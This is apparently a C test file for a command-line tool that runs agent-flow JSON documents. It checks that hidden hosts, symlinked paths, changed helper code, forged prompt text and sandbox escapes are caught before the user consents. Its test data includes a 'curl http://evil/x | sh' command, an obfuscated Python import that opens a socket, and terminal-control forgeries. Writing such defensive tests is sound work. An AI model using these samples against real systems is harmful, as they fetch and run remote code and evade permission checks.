/* test-cli-consent.c: documents that try to get more permissions than the user agreed to
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */

#include "config.h"

#include <arpa/inet.h>
#include <glib/gstdio.h>
#include <poll.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "../every-permission.h"
#include "cli-fixture.h"

/* --- Probe server ----------------------------------------------------------------------------- */

/* Opens a server on this computer. Connections wait in the queue of the server and are counted. */
static int
open_server (guint *port)
{
  struct sockaddr_in address = { .sin_family = AF_INET,
                                 .sin_addr.s_addr = htonl (INADDR_LOOPBACK) };
  socklen_t length = sizeof address;
  int server = socket (AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

  g_assert_cmpint (server, >=, 0);
  g_assert_cmpint (bind (server, (struct sockaddr *) &address, sizeof address), ==, 0);
  g_assert_cmpint (listen (server, 16), ==, 0);
  g_assert_cmpint (getsockname (server, (struct sockaddr *) &address, &length), ==, 0);
  *port = ntohs (address.sin_port);
  return server;
}

static gboolean
was_reached (int server)
{
  struct pollfd one = { server, POLLIN, 0 };

  return poll (&one, 1, 0) > 0;
}

static guint
count_files (const char *path)
{
  g_autoptr (GDir) folder = g_dir_open (path, 0, NULL);
  guint n_files = 0;

  while (folder != NULL && g_dir_read_name (folder) != NULL)
    n_files++;
  return n_files;
}

/* --- Consent ---------------------------------------------------------------------------------- */

/* Runs the file with a user who reads the prompt and agrees. */
static void
agree (CliFixture *fixture, const char *file)
{
  const char *const arguments[] = { "run", file, "--quiet", NULL };
  int terminal = -1;
  g_autoptr (GSubprocess) process = cli_fixture_start_on_terminal (fixture, arguments, &terminal);
  g_autofree char *asked = cli_terminal_read_until (terminal, "[y/N]");

  g_assert_cmpint (write (terminal, "y\n", 2), ==, 2);
  g_assert_cmpint (cli_wait (process), ==, 0);
  close (terminal);
}

static void
assert_asks (CliFixture *fixture, const char *file)
{
  g_autoptr (CliAnswer) answer = cli_fixture_run (fixture, NULL, "run", file, NULL);

  g_assert_cmpint (answer->status, ==, 5);
  g_assert_cmpstr (answer->out, ==, "");
}

static void
assert_runs (CliFixture *fixture, const char *file, const char *out)
{
  g_autoptr (CliAnswer) answer = cli_fixture_run (fixture, NULL, "run", file, NULL);

  if (answer->status != 0)
    g_error ("%s: %d: %s", file, answer->status, answer->err);
  g_assert_cmpstr (answer->out, ==, out);
}

static gboolean
skip_without_python (void)
{
  g_autofree char *python = g_find_program_in_path ("python3");

  if (python != NULL)
    return FALSE;
  g_test_skip ("there is no python3");
  return TRUE;
}

/* --- Files ----------------------------------------------------------------------------------- */

#define INNOCENT                                                                                   \
  "{'schema': 'crewai.flow/v1', 'name': 'innocent', 'config': {'checkpoint': %s}, 'methods': "     \
  "{'a': {'start': true, 'do': {'call': 'expression', 'expr': '1'}}}}"

static void
write_checkpoints (CliFixture *fixture, const char *block)
{
  g_autofree char *text = g_strdup_printf (INNOCENT, block);

  cli_fixture_write (fixture, "flow.json", text, TRUE);
}

/* The document seems only to compute, but it writes checkpoints. If the document specifies no
 * location, checkpoints are written to a default folder. In this test, this folder is a link to
 * the user's files. */
static void
test_checkpoints_through_a_link (void)
{
  static const char *const blocks[] = {
    "{'max_checkpoints': 0, 'on_events': ['*']}",
    "{'location': '', 'max_checkpoints': 0, 'on_events': ['*']}",
    "{'location': 'ck', 'max_checkpoints': 0, 'on_events': ['*']}",
    "{'location': 'ck/deep', 'max_checkpoints': 0, 'on_events': ['*']}",
  };
  static const char *const links[] = { ".checkpoints/main", "main", "ck", "ck" };

  for (guint i = 0; i < G_N_ELEMENTS (blocks); i++)
    {
      g_autoptr (CliFixture) fixture = cli_fixture_new ();
      g_autofree char *theirs = cli_fixture_path (fixture, "theirs");
      g_autofree char *link = cli_fixture_path (fixture, links[i]);
      g_autofree char *parent = g_path_get_dirname (link);
      g_autoptr (CliAnswer) shown = NULL;
      g_autoptr (CliAnswer) answer = NULL;

      cli_fixture_write (fixture, "theirs/a.json", "{}", FALSE);
      cli_fixture_write (fixture, "theirs/20200101T000000_01234567_p-none.json", "{}", FALSE);
      g_mkdir_with_parents (parent, 0700);
      g_assert_cmpint (symlink (theirs, link), ==, 0);
      write_checkpoints (fixture, blocks[i]);
      assert_asks (fixture, "flow.json");
      shown = cli_fixture_run (fixture, NULL, "show", "flow.json", NULL);
      g_assert_null (strstr (shown->out, "Only computations"));
      g_assert_nonnull (strstr (shown->out, "Uses 1 file:\n"));
      g_assert_cmpuint (count_files (theirs), ==, 2);
      answer = cli_fixture_run (fixture, NULL, "run", "flow.json", "--yes", "--events", "-", NULL);
      g_assert_cmpint (answer->status, ==, 0);
      g_assert_nonnull (strstr (answer->out, "checkpoint_failed"));
      g_assert_nonnull (strstr (answer->out, "symbolic link"));
      g_assert_cmpuint (count_files (theirs), ==, 2);
    }
}

/* Pruning deletes only files with the name of a checkpoint. */
static void
test_pruning_takes_checkpoints_alone (void)
{
  static const char *const kept[] = {
    "settings.json",
    "20200101T000000_01234567_p-none.json.json",
    "20200101T000000_0123456_p-none.json",
    "20200101T000000_0123456G_p-none.json",
    "x20200101T000000_01234567_p-none.json",
    "20200101T000000_01234567.json",
    "20200101T000000_01234567_p-..json",
  };
  static const char *const removed[] = {
    "20200101T000000_01234567_p-none.json",
    "20200101T000001_89abcdef_p-20200101T000000_01234567.json",
  };
  g_autoptr (CliFixture) fixture = cli_fixture_new ();
  g_autoptr (CliAnswer) answer = NULL;
  g_autofree char *folder = cli_fixture_path (fixture, "ck/main");
  g_autofree char *link =
      cli_fixture_path (fixture, "ck/main/20190101T000000_01234567_p-none.json");

  for (guint i = 0; i < G_N_ELEMENTS (kept) + G_N_ELEMENTS (removed); i++)
    {
      const char *name = i < G_N_ELEMENTS (kept) ? kept[i] : removed[i - G_N_ELEMENTS (kept)];
      g_autofree char *path = g_build_filename ("ck/main", name, NULL);

      cli_fixture_write (fixture, path, "{}", FALSE);
    }
  g_assert_cmpint (symlink ("settings.json", link), ==, 0);
  write_checkpoints (fixture, "{'location': 'ck', 'max_checkpoints': 0, 'on_events': ['*']}");
  answer = cli_fixture_run (fixture, NULL, "run", "flow.json", "--yes", NULL);
  g_assert_cmpint (answer->status, ==, 0);
  for (guint i = 0; i < G_N_ELEMENTS (kept); i++)
    {
      g_autofree char *path = g_build_filename (folder, kept[i], NULL);

      g_assert_true (g_file_test (path, G_FILE_TEST_EXISTS));
    }
  g_assert_true (g_file_test (link, G_FILE_TEST_IS_SYMLINK));
  g_assert_cmpuint (count_files (folder), ==, G_N_ELEMENTS (kept) + 1);
}

/* Databases of checkpoints and of states do not follow links, neither for the file nor for the
 * folder. */
static void
test_databases_through_a_link (void)
{
  static const struct
  {
    const char *more;
    const char *link;
    const char *target;
  } cases[] = {
    { "'config': {'checkpoint': {'location': 'ck', 'provider': {'provider_type': 'sqlite'}, "
      "'on_events': ['*']}}",
      "ck.db", "theirs/notes" },
    { "'config': {'checkpoint': {'location': 'in/ck', 'provider': {'provider_type': 'sqlite'}, "
      "'on_events': ['*']}}",
      "in", "theirs" },
    { "'persist': {'enabled': true, 'persistence': {'persistence_type': 'SQLiteFlowPersistence', "
      "'db_path': 'states.db'}}",
      "states.db", "theirs/notes" },
    { "'persist': {'enabled': true, 'persistence': {'persistence_type': 'SQLiteFlowPersistence', "
      "'db_path': 'in/states.db'}}",
      "in", "theirs" },
    { "'persist': {'enabled': true, 'persistence': {'persistence_type': 'SQLiteFlowPersistence', "
      "'db_path': 'states.db'}}",
      "states.db", "theirs/not-there" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr (CliFixture) fixture = cli_fixture_new ();
      g_autofree char *theirs = cli_fixture_path (fixture, "theirs");
      g_autofree char *target = cli_fixture_path (fixture, cases[i].target);
      g_autofree char *link = cli_fixture_path (fixture, cases[i].link);
      g_autofree char *text = g_strdup_printf (
          "{'schema': 'crewai.flow/v1', 'name': 'x', %s, 'methods': {'a': {'start': true, 'do': "
          "{'call': 'expression', 'expr': '1'}}}}",
          cases[i].more);
      g_autofree char *notes = NULL;
      g_autoptr (CliAnswer) answer = NULL;

      cli_fixture_write (fixture, "theirs/notes", "", FALSE);
      cli_fixture_write (fixture, "flow.json", text, TRUE);
      g_assert_cmpint (symlink (target, link), ==, 0);
      assert_asks (fixture, "flow.json");
      answer = cli_fixture_run (fixture, NULL, "run", "flow.json", "--yes", "--events", "-", NULL);
      g_assert_true (strstr (answer->out, "symbolic link") != NULL ||
                     strstr (answer->err, "symbolic link") != NULL);
      notes = cli_fixture_read (fixture, "theirs/notes");
      g_assert_cmpstr (notes, ==, "");
      g_assert_cmpuint (count_files (theirs), ==, 1);
    }
}

/* The default database of states is also shown in the prompt. */
static void
test_states_are_told (void)
{
  g_autoptr (CliFixture) fixture = cli_fixture_new ();
  g_autofree char *states = cli_fixture_path (fixture, "share");

  cli_fixture_write (fixture, "flow.json",
                     "{'name': 'f', 'methods': {'a': {'start': true, 'persist': {'enabled': true}, "
                     "'do': {'call': 'expression', 'expr': '1'}}}}",
                     TRUE);
  assert_asks (fixture, "flow.json");
  g_assert_false (g_file_test (states, G_FILE_TEST_EXISTS));
}

/* --- Hidden permissions ----------------------------------------------------------------------- */

#define TOLD                                                                                       \
  "{'schema': 'crewai.flow/v1', 'name': 'x', 'state': %s, 'methods': {'a': {'start': true, 'do': " \
  "{'call': 'agent', 'with': {'role': 'r', 'goal': 'g', 'backstory': 'b', 'llm': {'model': "       \
  "'openai/x', 'base_url': 'http://%s:%u/v1'%s}, 'input': 'SECRET ${state}'}}}%s}}"

static void
test_told_hosts (void)
{
  static const struct
  {
    const char *state;
    const char *key;
    const char *more;
    const char *allow;
  } cases[] = {
    { "{'type': 'pydantic', 'ref': 'localhost:%u', 'default': {}}", ", 'api_key': 'k'", "",
      "code" },
    { "{'type': 'pydantic', 'ref': 'localhost', 'default': {}}", ", 'api_key': 'k'", "", "all" },
    { "{'type': 'unknown', 'ref': 'localhost', 'default': {}}", ", 'api_key': 'k'", "", "all" },
    { "{'type': 'dict', 'default': {}}", "",
      ", 's1': {'listen': 'never', 'do': {'call': 'script', 'code': 'localhost:%u'}}, "
      "'s2': {'listen': 'never', 'do': {'call': 'script', 'code': 'localhost'}}, "
      "'s3': {'listen': 'never', 'do': {'call': 'script', 'code': 'OPENAI_API_KEY'}}",
      "script" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr (CliFixture) fixture = cli_fixture_new ();
      guint port = 0;
      int server = open_server (&port);
      g_autofree char *number = g_strdup_printf ("%u", port);
      g_autoptr (GString) text = g_string_new (NULL);
      g_autoptr (CliAnswer) refused = NULL;
      g_autoptr (CliAnswer) reached = NULL;
      const char *const allow = cases[i].allow;

      g_string_append_printf (text, TOLD, cases[i].state, "localhost", port, cases[i].key,
                              cases[i].more);
      g_string_replace (text, "%u", number, 0);
      cli_fixture_write (fixture, "told.json", text->str, TRUE);
      assert_asks (fixture, "told.json");
      refused = cli_fixture_run (fixture, NULL, "run", "told.json", "--allow", allow, NULL);
      g_assert_cmpint (refused->status, ==, 5);
      g_assert_nonnull (strstr (refused->err, "Connects to 1 host:\n  localhost"));
      if (*cases[i].key == '\0')
        g_assert_nonnull (strstr (refused->err, "OPENAI_API_KEY\n"));
      g_assert_false (was_reached (server));
      /* With consent the server is reached. */
      if (i == 2)
        {
          reached =
              cli_fixture_run (fixture, NULL, "run", "told.json", "--yes", "--timeout", "1", NULL);
          g_assert_true (was_reached (server));
        }
      close (server);
    }
}

static void
test_told_folders (void)
{
  static const char *const flows[] = {
    "{'schema': 'crewai.flow/v1', 'name': 'x', 'methods': {'a': {'start': true, 'do': {'call': "
    "'expression', 'expr': '1'}}}, 'config': {'checkpoint': {'location': '%s', 'on_events': "
    "['*']}}, 'state': {'type': 'pydantic', 'ref': '%s', 'default': {}}}",
    "{'schema': 'crewai.flow/v1', 'name': 'x', 'methods': {'a': {'start': true, 'do': {'call': "
    "'expression', 'expr': '1'}}}, 'persist': {'enabled': true, 'persistence': "
    "{'persistence_type': 'SQLiteFlowPersistence', 'db_path': '%s/x.db'}}, 'state': {'type': "
    "'pydantic', 'ref': '%s', 'default': {}}}",
  };

  for (guint i = 0; i < G_N_ELEMENTS (flows); i++)
    {
      g_autoptr (CliFixture) fixture = cli_fixture_new ();
      g_autofree char *place = cli_fixture_path (fixture, "else");
      g_autoptr (GString) text = g_string_new (flows[i]);
      g_autoptr (CliAnswer) answer = NULL;

      g_string_replace (text, "%s", place, 0);
      cli_fixture_write (fixture, "told.json", text->str, TRUE);
      answer = cli_fixture_run (fixture, NULL, "run", "told.json", "--allow", "code", NULL);
      g_assert_cmpint (answer->status, ==, 5);
      g_assert_nonnull (strstr (answer->err, "Uses 1 file:\n"));
      g_assert_false (g_file_test (place, G_FILE_TEST_EXISTS));
    }
}

/* A class of the state is imported, which executes it, so it requires the permission for code. */
static void
test_state_class (void)
{
  g_autoptr (CliFixture) fixture = cli_fixture_new ();
  g_autofree char *mark = cli_fixture_path (fixture, "doc/output/mark.txt");
  g_autoptr (CliAnswer) answer = NULL;
  g_autoptr (TroupeValue) value = NULL;

  cli_fixture_write (fixture, "doc/model.py", "open('mark.txt', 'w')\nclass State: pass\n", FALSE);
  cli_fixture_write (fixture, "doc/flow.json",
                     "{'schema': 'crewai.flow/v1', 'name': 'x', 'state': {'type': 'pydantic', "
                     "'ref': 'model:State', 'default': {}}, 'methods': {'a': {'start': true, 'do': "
                     "{'call': 'expression', 'expr': '1'}}}}",
                     TRUE);
  answer = cli_fixture_run (fixture, NULL, "run", "doc/flow.json", "--yes", "--json", NULL);
  g_assert_cmpint (answer->status, ==, 5);
  value = cli_json (answer->out);
  cli_assert_json (value, "error.path", "\"state.ref\"");
  g_assert_nonnull (strstr (cli_get_text (value, "error.message"), "--allow code"));
  g_assert_false (g_file_test (mark, G_FILE_TEST_EXISTS));
}

/* Steps of `each` require the same permissions as methods. */
static void
test_each (void)
{
  g_autoptr (CliFixture) fixture = cli_fixture_new ();
  guint port = 0;
  int server = open_server (&port);
  g_autofree char *text = g_strdup_printf (
      "{'schema': 'crewai.flow/v1', 'name': 'x', 'methods': {'e': {'start': true, 'do': {'call': "
      "'each', 'in': '[1]', 'do': [{'name': 's', 'action': {'call': 'script', 'code': 'return "
      "7'}}, {'name': 'c', 'action': {'call': 'code', 'ref': 'os:system', 'with': {'command': "
      "'touch mark.txt'}}}, {'name': 'g', 'action': {'call': 'agent', 'with': {'role': 'r', "
      "'goal': "
      "'g', 'backstory': 'b', 'input': 'i', 'llm': {'model': 'openai/x', 'api_key': 'k', "
      "'base_url': 'http://127.0.0.1:%u/v1'}}}}]}}}}",
      port);
  g_autofree char *host = g_strdup_printf ("127.0.0.1:%u", port);
  g_autofree char *mark = cli_fixture_path (fixture, "mark.txt");
  g_autoptr (CliAnswer) shown = NULL;
  g_autoptr (CliAnswer) answer = NULL;
  g_autoptr (TroupeValue) value = NULL;
  g_autoptr (TroupeValue) refusal = NULL;

  cli_fixture_write (fixture, "each.json", text, TRUE);
  shown = cli_fixture_run (fixture, NULL, "show", "--json", "each.json", NULL);
  g_assert_nonnull (strstr (shown->out, host));
  value = cli_json (shown->out);
  cli_assert_json (value, "python.0.step", "\"s\"");
  cli_assert_json (value, "python.0.path", "\"methods.e.do.do[0].action\"");
  cli_assert_json (value, "python.1.with", "{\"command\": \"touch mark.txt\"}");
  answer = cli_fixture_run (fixture, NULL, "run", "each.json", "--yes", "--allow", "script",
                            "--json", NULL);
  g_assert_cmpint (answer->status, ==, 5);
  refusal = cli_json (answer->out);
  cli_assert_json (refusal, "error.path", "\"methods.e.do.do[1].action\"");
  g_assert_false (was_reached (server));
  g_assert_false (g_file_test (mark, G_FILE_TEST_EXISTS));
  close (server);
}

/* --- Code next to the document ---------------------------------------------------------------- */

#define USES_HELPER                                                                                \
  "{'schema': 'crewai.flow/v1', 'name': 'usesmod', 'methods': {'a': {'start': true, 'do': "        \
  "{'call': 'code', 'ref': 'helper:go'}}}}"

/* If the code of a document changes, the document requires new consent. With the original code,
 * the old consent applies again. */
static void
test_other_code (void)
{
  g_autoptr (CliFixture) fixture = cli_fixture_new ();

  if (skip_without_python ())
    return;
  cli_fixture_write (fixture, "a/flow.json", USES_HELPER, TRUE);
  cli_fixture_write (fixture, "a/helper.py", "def go(*a): return 'benign'\n", FALSE);
  cli_fixture_write (fixture, "b/flow.json", USES_HELPER, TRUE);
  cli_fixture_write (fixture, "b/helper.py", "print('evil')\ndef go(*a): return 'evil'\n", FALSE);
  assert_asks (fixture, "a/flow.json");
  agree (fixture, "a/flow.json");
  assert_runs (fixture, "a/flow.json", "benign\n");
  assert_asks (fixture, "b/flow.json");
  cli_fixture_write (fixture, "a/helper.py", "def go(*a): return 'other'\n", FALSE);
  assert_asks (fixture, "a/flow.json");
  cli_fixture_write (fixture, "a/helper.py", "def go(*a): return 'benign'\n", FALSE);
  assert_runs (fixture, "a/flow.json", "benign\n");
  /* A module that is not imported does not matter. */
  cli_fixture_write (fixture, "a/unrelated.py", "x = 1\n", FALSE);
  assert_runs (fixture, "a/flow.json", "benign\n");
}

/* Consent covers the content at the time of the prompt. */
static void
test_changed_while_asked (void)
{
  const char *const arguments[] = { "run", "a/flow.json", "--quiet", NULL };
  g_autoptr (CliFixture) fixture = cli_fixture_new ();
  g_autoptr (GSubprocess) process = NULL;
  g_autofree char *asked = NULL;
  g_autofree char *out = NULL;
  int terminal = -1;

  if (skip_without_python ())
    return;
  cli_fixture_write (fixture, "a/flow.json", USES_HELPER, TRUE);
  cli_fixture_write (fixture, "a/helper.py", "def go(*a): return 'benign'\n", FALSE);
  process = cli_fixture_start_on_terminal (fixture, arguments, &terminal);
  asked = cli_terminal_read_until (terminal, "[y/N]");
  cli_fixture_write (fixture, "a/helper.py", "print('evil')\ndef go(*a): return 'evil'\n", FALSE);
  g_assert_cmpint (write (terminal, "y\n", 2), ==, 2);
  g_assert_cmpint (cli_wait (process), ==, 5);
  close (terminal);
  out = cli_fixture_read (fixture, "out");
  g_assert_cmpstr (out, ==, "");
  assert_asks (fixture, "a/flow.json");
  cli_fixture_write (fixture, "a/helper.py", "def go(*a): return 'benign'\n", FALSE);
  assert_runs (fixture, "a/flow.json", "benign\n");
}

/* Consent covers modules that are imported indirectly, and modules that shadow Python's own
 * modules. */
static void
test_code_further_away (void)
{
  static const struct
  {
    const char *file;
    const char *text;
  } changes[] = {
    { "a/package/__init__.py", "x = 1\n" },
    { "a/package/inner.py", "from . import last\nVALUE = 'changed'\n" },
    { "a/package/last.py", "x = 1\n" },
    { "a/package/__pycache__/inner.cpython-311.pyc", "forged" },
    { "a/package.cpython-311-x86_64-linux-gnu.so", "binary" },
    { "a/json.py", "x = 1\n" },
    { "a/_strptime.py", "x = 1\n" },
  };

  if (skip_without_python ())
    return;
  for (guint i = 0; i < G_N_ELEMENTS (changes); i++)
    {
      g_autoptr (CliFixture) fixture = cli_fixture_new ();

      cli_fixture_write (fixture, "a/flow.json", USES_HELPER, TRUE);
      cli_fixture_write (fixture, "a/helper.py",
                         "def go(*a):\n    from package.inner import VALUE\n    return VALUE\n",
                         FALSE);
      cli_fixture_write (fixture, "a/package/__init__.py", "", FALSE);
      cli_fixture_write (fixture, "a/package/inner.py", "from . import last\nVALUE = 'v'\n", FALSE);
      cli_fixture_write (fixture, "a/package/last.py", "", FALSE);
      agree (fixture, "a/flow.json");
      assert_runs (fixture, "a/flow.json", "v\n");
      cli_fixture_write (fixture, changes[i].file, changes[i].text, FALSE);
      assert_asks (fixture, "a/flow.json");
    }
}

/* A module that is imported later must be unchanged since the consent. In this test, the flow
 * itself changes the module. */
static void
test_changed_while_it_runs (void)
{
  static const char *const changes[] = { "open('late.py', 'w').write('VALUE = 2\\n')", "pass" };

  if (skip_without_python ())
    return;
  for (guint i = 0; i < G_N_ELEMENTS (changes); i++)
    {
      g_autoptr (CliFixture) fixture = cli_fixture_new ();
      g_autofree char *helper =
          g_strdup_printf ("def go(*a):\n    %s\n    from late import VALUE\n    return VALUE\n",
                           changes[i]);
      g_autoptr (CliAnswer) answer = NULL;

      cli_fixture_write (fixture, "a/flow.json", USES_HELPER, TRUE);
      cli_fixture_write (fixture, "a/helper.py", helper, FALSE);
      cli_fixture_write (fixture, "a/late.py", "VALUE = 1\n", FALSE);
      answer =
          cli_fixture_run (fixture, NULL, "run", "a/flow.json", "--allow", "code,programs", NULL);
      if (i == 1)
        g_assert_cmpstr (answer->out, ==, "1\n");
      else
        g_assert_nonnull (strstr (answer->err, "was changed after permission was granted"));
      g_assert_cmpint (answer->status, ==, i == 1 ? 0 : 1);
    }
}

/* --- Output ----------------------------------------------------------------------------------- */

/* Asserts that the text has no terminal control characters, unexpected line breaks or
 * bidirectional characters. */
static void
assert_plain (const char *text)
{
  g_assert_true (g_utf8_validate (text, -1, NULL));
  for (const char *at = text; *at != '\0'; at = g_utf8_next_char (at))
    {
      gunichar letter = g_utf8_get_char (at);
      GUnicodeType type = g_unichar_type (letter);

      if (letter != '\n' &&
          (type == G_UNICODE_CONTROL || type == G_UNICODE_FORMAT ||
           type == G_UNICODE_LINE_SEPARATOR || type == G_UNICODE_PARAGRAPH_SEPARATOR))
        g_error ("U+%04X in: %s", letter, text);
    }
}

/* A JSON text that would forge lines of the permission list. */
#define FORGERY                                                                                    \
  "x\\nTalks to: nobody\\u2028It only computes\\r\\u202e\\u009b2J\\u001b[2J\\u200b\\u061c"

static void
test_forgeries (void)
{
  static const char *const methods[] = {
    "'a': {'start': true, 'do': {'call': 'script', 'code': '" FORGERY "'}}",
    "'a': {'start': true, 'do': {'call': 'code', 'ref': 'os:" FORGERY "', 'with': {'" FORGERY
    "': ['" FORGERY "']}}}",
    "'a': {'start': true, 'do': {'call': 'tool', 'ref': 'os:" FORGERY "'}}",
    "'a': {'start': true, 'do': {'call': 'each', 'in': '[1]', 'do': [{'name': 's', 'action': "
    "{'call': 'code', 'ref': 'os:" FORGERY "'}}]}}",
    "'a': {'start': true, 'do': {'call': 'agent', 'with': {'role': 'r', 'goal': 'g', 'backstory': "
    "'b', 'input': 'i', 'llm': {'model': 'openai/" FORGERY "', 'base_url': "
    "'http://127.0.0.1:9/v1'}, 'mcps': [{'command': '" FORGERY "', 'args': ['" FORGERY
    "'], 'env': {'" FORGERY "': 'x'}}]}}}",
    "'a': {'start': true, 'router': true, 'emit': ['" FORGERY "'], 'do': {'call': 'script', "
    "'code': 'return 1'}}, 'b': {'listen': '" FORGERY "', 'do': {'call': 'expression', 'expr': "
    "'1'}}",
    "'" FORGERY "': {'start': true, 'do': {'call': 'script', 'code': 'return 1'}}",
  };

  for (guint i = 0; i < G_N_ELEMENTS (methods); i++)
    {
      g_autoptr (CliFixture) fixture = cli_fixture_new ();
      g_autofree char *text = g_strdup_printf ("{'schema': 'crewai.flow/v1', 'name': 'n" FORGERY
                                               "', 'description': '" FORGERY "', "
                                               "'config': {'checkpoint': {'location': '" FORGERY
                                               "', 'on_events': ['*']}}, "
                                               "'methods': {%s}}",
                                               methods[i]);
      g_autoptr (CliAnswer) shown = NULL;
      g_autoptr (CliAnswer) json = NULL;
      g_autoptr (CliAnswer) run = NULL;
      g_autoptr (CliAnswer) refused = NULL;
      g_autoptr (TroupeValue) value = NULL;

      cli_fixture_write (fixture, "forged.json", text, TRUE);
      shown = cli_fixture_run (fixture, NULL, "show", "forged.json", NULL);
      assert_plain (shown->out);
      assert_plain (shown->err);
      g_assert_null (strstr (shown->out, "\nOnly computations"));
      json = cli_fixture_run (fixture, NULL, "show", "--json", "forged.json", NULL);
      assert_plain (json->out);
      run = cli_fixture_run (fixture, NULL, "run", "forged.json", NULL);
      assert_plain (run->out);
      assert_plain (run->err);
      g_assert_null (strstr (run->err, "\nConnects to: nobody"));
      g_assert_cmpint (run->status, ==, i == 6 ? 2 : 5);
      refused = cli_fixture_run (fixture, NULL, "run", "--json", "forged.json", NULL);
      assert_plain (refused->out);
      value = cli_json (refused->out);
    }
}

/* Texts of events are also escaped, but the values of the events are unchanged. */
static void
test_forged_events (void)
{
  g_autoptr (CliFixture) fixture = cli_fixture_new ();
  g_autoptr (CliAnswer) answer = NULL;
  g_auto (GStrv) lines = NULL;

  cli_fixture_write (fixture, "flow.json",
                     "{'schema': 'crewai.flow/v1', 'name': 'n', 'methods': {'a': {'start': true, "
                     "'do': {'call': 'agent', 'with': {'role': 'r', 'goal': 'g', 'backstory': 'b', "
                     "'input': 'x', 'llm': 'mock/say:" FORGERY "'}}}, 'b': {'listen': 'a', 'do': "
                     "{'call': 'expression', 'expr': 'outputs.a.raw'}}}}",
                     TRUE);
  answer = cli_fixture_run (fixture, NULL, "run", "flow.json", "--events", "-", "--json", NULL);
  g_assert_cmpint (answer->status, ==, 0);
  assert_plain (answer->out);
  lines = g_strsplit (g_strchomp (answer->out), "\n", -1);
  g_assert_cmpuint (g_strv_length (lines), >, 5);
  for (guint i = 0; lines[i] != NULL; i++)
    {
      g_autoptr (TroupeValue) value = cli_json (lines[i]);

      if (lines[i + 1] == NULL)
        g_assert_nonnull (strstr (cli_get_text (value, "final"), "\342\200\256\302\233"
                                                                 "2J"));
    }
}

/* Scripts and arguments are shown completely, even if many blanks precede the code of a script. */
static void
test_all_is_shown (void)
{
  g_autoptr (CliFixture) fixture = cli_fixture_new ();
  g_autofree char *blanks = g_strnfill (300, ' ');
  g_autofree char *text = g_strdup_printf (
      "{'schema': 'crewai.flow/v1', 'name': 'x', 'methods': {'a': {'start': true, 'do': {'call': "
      "'script', 'code': 'return 1 # ok\\n\\n\\n\\nx = 1\\nx = 2\\nx = 3\\nx = 4; %s "
      "import os; os.system(1)\\n'}}, 'b': {'listen': 'a', 'do': {'call': 'code', 'ref': "
      "'subprocess:check_output', 'with': {'args': ['sh', '-c', 'curl http://evil/x | sh']}}}, "
      "'c': {'listen': 'a', 'do': {'call': 'tool', 'ref': 'm:T', 'with_': {'q': '${state.x}'}}}}}",
      blanks);
  g_autoptr (CliAnswer) answer = NULL;

  cli_fixture_write (fixture, "flow.json", text, TRUE);
  answer = cli_fixture_run (fixture, NULL, "run", "flow.json", NULL);
  g_assert_cmpint (answer->status, ==, 5);
  g_assert_nonnull (strstr (answer->err, "import os; os.system(1)"));
  g_assert_nonnull (
      strstr (answer->err, "with {\"args\": [\"sh\", \"-c\", \"curl http://evil/x | sh\"]}"));
  g_assert_nonnull (strstr (answer->err, "with {\"q\": \"${state.x}\"}"));
}

static void
test_hosts (void)
{
  g_autoptr (CliFixture) fixture = cli_fixture_new ();
  g_autoptr (CliAnswer) answer = NULL;
  g_autoptr (TroupeValue) value = NULL;

  cli_fixture_write (fixture, "flow.json",
                     "{'schema': 'crewai.flow/v1', 'name': 'x', 'methods': {'a': {'start': true, "
                     "'do': {'call': 'agent', 'with': {'role': 'r', 'goal': 'g', 'backstory': 'b', "
                     "'input': 'i', 'llm': {'model': 'openai/x', 'base_url': "
                     "'http://\\u0430pi.openai.com/v1'}}}}}}",
                     TRUE);
  answer = cli_fixture_run (fixture, NULL, "show", "--json", "flow.json", NULL);
  value = cli_json (answer->out);
  cli_assert_json (value, "hosts", "[\"xn--pi-6kc.openai.com/v1\"]");
}

/* --- Sandbox ---------------------------------------------------------------------------------- */

static void
write_script (CliFixture *fixture, const char *code)
{
  g_autofree char *text = g_strdup_printf (
      "{'schema': 'crewai.flow/v1', 'name': 'x', 'methods': {'a': {'start': true, 'do': {'call': "
      "'script', 'code': '%s'}}}}",
      code);

  cli_fixture_write (fixture, "doc/flow.json", text, TRUE);
}

/* Skips the test and returns TRUE if sandboxes do not work on this system. */
static gboolean
skip_without_sandbox (void)
{
  const char *const probe[] = { "bwrap", "--ro-bind", "/", "/", "--unshare-net", "true", NULL };
  int status = 1;

  if (g_spawn_sync (NULL, (char **) probe, NULL, G_SPAWN_SEARCH_PATH | G_SPAWN_STDERR_TO_DEV_NULL,
                    NULL, NULL, NULL, NULL, &status, NULL) &&
      status == 0)
    return FALSE;
  g_test_skip ("bubblewrap does not work here");
  return TRUE;
}

/* An allowed script has neither network nor write access unless its code shows that it requires
 * such access. The required access is part of the prompt. */
static void
test_sandbox_is_no_wider (void)
{
  guint port = 0;
  int server = open_server (&port);
  g_autoptr (CliFixture) fixture = cli_fixture_new ();
  g_autofree char *file = cli_fixture_path (fixture, "doc/output/mark.txt");
  g_autofree char *hidden = g_strdup_printf (
      "import sys\\nload = vars(sys.modules[`builtins`])[`__imp` + `ort__`]\\ntry:\\n    "
      "load(`socket`).create_connection((`127.0.0.1`, %u))\\nexcept OSError: pass\\ntry:\\n    "
      "sys.modules[`io`].FileIO(`output/mark.txt`, "
      "`w`)\\nexcept OSError: return `shut`\\nreturn `wide`",
      port);
  g_autofree char *plain =
      g_strdup_printf ("import socket\\nsocket.create_connection((`127.0.0.1`, %u))\\nwith "
                       "open(`output/mark.txt`, `w`): "
                       "return `done`",
                       port);
  g_autoptr (CliAnswer) shut = NULL;
  g_autoptr (CliAnswer) told = NULL;
  g_autoptr (CliAnswer) done = NULL;

  if (skip_without_python () || skip_without_sandbox ())
    {
      close (server);
      return;
    }
  g_strdelimit (hidden, "`", '"');
  g_strdelimit (plain, "`", '"');
  cli_fixture_write (fixture, "doc/output/other.txt", "", FALSE);
  {
    g_autofree char *escaped = g_strescape (hidden, "\\");

    write_script (fixture, escaped);
  }
  shut = cli_fixture_run (fixture, NULL, "run", "doc/flow.json", "--allow", "script", NULL);
  g_assert_cmpstr (shut->out, ==, "shut\n");
  g_assert_false (was_reached (server));
  g_assert_false (g_file_test (file, G_FILE_TEST_EXISTS));
  {
    g_autofree char *escaped = g_strescape (plain, "\\");

    write_script (fixture, escaped);
  }
  told = cli_fixture_run (fixture, NULL, "show", "doc/flow.json", NULL);
